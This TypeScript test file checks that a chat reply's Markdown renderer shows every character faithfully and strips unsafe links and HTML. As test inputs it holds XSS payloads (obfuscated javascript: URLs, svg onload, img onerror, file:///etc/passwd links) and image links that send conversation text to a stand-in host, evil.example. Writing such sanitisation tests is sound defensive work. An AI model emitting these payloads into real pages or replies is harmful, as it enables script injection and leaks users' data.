import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import Markdown from "@/components/conversation/view/markdown";
import { en } from "@/components/words/en";
import { WordsProvider } from "@/components/words/words";

const html = (text: string, growing = false) =>
  renderToStaticMarkup(
    <WordsProvider language="en" words={en}>
      <Markdown text={text} growing={growing} />
    </WordsProvider>,
  );

/** The characters that a reader sees, without white space. */
function drawn(text: string, growing = false): string {
  const entities: Record<string, string> = { lt: "<", gt: ">", amp: "&", quot: '"', "#x27": "'" };
  return html(text, growing)
    .replace(/<[^>]*>/g, "")
    .replace(/&([^;]+);/g, (_, name: string) => entities[name] ?? `&${name};`)
    .replace(/\s+/g, "");
}

/** What a reader must see of a source, apart from white space. */
const TEXTS: readonly [source: string, seen?: string][] = [
  ["3~5 days, 10~20 euros"],
  ["20~25°C、3~5日、約10~20ユーロ"],
  ["I am <unsure> about this.</unsure> And a < b > c, <br> too."],
  ["<unsure>\nIt begins a line.\n</unsure>\n\nAfter it."],
  ["<!-- said aloud --> and <script>alert(1)</script>"],
  ["[note]: this is no definition\n\n[^1]: and no footnote[^1]"],
  ["Is it so?\n---\nNo.", "Isitso?No."],
  ["2 * 3 * 4 = 24, snake_case_name, a_b, 5*6"],
  ["**bold** and *italic* and ***both***", "boldanditalicandboth"],
  ["**「重要」**です、**太字。**次", "「重要」です、太字。次"],
  ["**שלום עולם**, זה *חשוב* מאוד", "שלוםעולם,זהחשובמאוד"],
  ["هذا **مهم** جدا", "هذامهمجدا"],
  ["A [link](https://example.com/a_b) and ![a picture](https://example.com/p.png) end", "Alinkandapictureend"],
  ["[](https://example.com/bare)", "https://example.com/bare"],
  ["`code_with_*stars*` and\n\n```\nif (a < b) { x = `y` }\n```", "code_with_*stars*andif(a<b){x=`y`}"],
  ["~~gone~~ and ~kept~", "goneand~kept~"],
  ["| a | b |\n|---|---|\n| 1 | 2 | 3 |", "ab123"],
  ["- one **two**\n- > 25 is more\n  - [ ] open", "onetwo25ismoreopen"],
  ["It costs $5 to $10, and $$ is money."],
  ["A family 👩‍👩‍👧 and é and 𝒳 and AT&T"],
  ["\\*not italic\\* &amp; so", "*notitalic*&so"],
  ["> **quoted\n> on** two lines", "quotedontwolines"],
  ["1. one\n2. *two*\n\n## Then\n\n- three", "onetwoThenthree"],
  ["In 2026. And\n12 more [as an aside] here"],
  ["Kept **bold `code` in** one", "Keptboldcodeinone"],
  ["```ts\nconst open = **1;\n", "constopen=**1;"],
];

describe("the rendered text of a reply", () => {
  it.each(TEXTS)("is every character of %j", (source, seen = source.replace(/\s+/g, "")) => {
    expect(drawn(source)).toBe(seen);
  });

  it("shows markup that is never closed as text, but closes it while more is to come", () => {
    expect(drawn("Left **open at the end")).toBe("Left**openattheend");
    expect(html("Left **open at the end", true)).toContain("<strong>open at the end</strong>");
  });

  it("strikes nothing through between single tildes", () => {
    expect(html("3~5 days, 10~20 euros")).not.toContain("<del>");
  });

  it.each([
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\u0001javascript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://clarify.example/1)",
    "<javascript:alert(1)>",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/?q=what-they-said)",
    "![x][1]\n\n[1]: https://evil.example/p.png",
    "[![x](https://evil.example/p.png)](javascript:alert(1))",
    '<a href="javascript:alert(1)">x</a><iframe src="https://evil.example">',
    '<svg onload="alert(1)"><style>@import "https://evil.example"</style>',
    '[x](https://example.com "\\" onmouseover=\\"alert(1)")',
  ])("leads nowhere but to a page, and loads nothing: %j", (source) => {
    for (const growing of [false, true]) {
      const shown = html(source, growing);
      for (const [, address = ""] of shown.matchAll(/(?:href|src|action)="([^"]*)"/g)) {
        expect(address).toMatch(/^(https?:|mailto:|#|$)/);
      }
      expect(shown).not.toMatch(/<(img|iframe|script|style|svg|object|embed|form|input|meta|link|base)\b/i);
      expect(shown.replaceAll(/>[^<]*</g, "><")).not.toMatch(/\son[a-z]+=/i);
    }
  });

  it("runs no HTML", () => {
    expect(html("<img src=x onerror=alert(1)>")).not.toContain("<img");
  });

  it.each(TEXTS)("only grows while it arrives: %j", (source) => {
    const whole = drawn(source);
    const characters = [...source];
    for (let cut = 0; cut <= characters.length; cut += 1) {
      const prefix = characters.slice(0, cut).join("");
      const shown = drawn(prefix, true);
      expect(whole.startsWith(shown), `${JSON.stringify(prefix)} is drawn as ${JSON.stringify(shown)}`).toBe(true);
    }
  });
});
